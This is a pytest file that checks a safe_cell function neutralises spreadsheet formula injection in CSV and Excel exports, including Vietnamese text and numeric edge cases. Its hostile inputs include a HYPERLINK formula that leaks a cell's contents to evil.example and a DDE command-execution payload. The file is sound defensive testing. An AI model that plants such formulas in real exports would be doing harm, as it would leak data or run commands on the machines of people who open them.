"""safe_cell: exported text never becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from service.kit.csv_safety import safe_cell


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
        "+84 912 345 678",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=cmd|' /C calc'!A0",
        "\r=1+1",
        "\uff1d1+1",  # full-width equals sign
        "\uff20SUM(A1)",
    ],
)
def test_text_that_starts_like_a_formula_is_quoted(hostile: str) -> None:
    cell = safe_cell(hostile)
    assert cell == "'" + hostile


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Công ty TNHH Điện tử Bắc Ninh", "Công ty TNHH Điện tử Bắc Ninh"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (-5, "-5"),
        (120_000_000, "120000000"),
        (-0.5, "-0.5"),
        (Decimal("-12.50"), "-12.50"),
        (True, "true"),
    ],
)
def test_harmless_values_are_kept(value: object, expected: str) -> None:
    assert safe_cell(value) == expected


def test_csv_round_trip_keeps_the_quote_as_text() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_cell("=1+1"), safe_cell("Hòa Bình"), safe_cell(-3)])
    row = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'=1+1", "Hòa Bình", "-3"]


def test_openpyxl_writes_a_quoted_cell_as_a_string_not_a_formula() -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet["A1"] = safe_cell("=SUM(1,2)")
    sheet["A2"] = "=SUM(1,2)"  # what an unprotected export would write
    assert sheet["A1"].data_type == "s"
    assert sheet["A2"].data_type == "f"
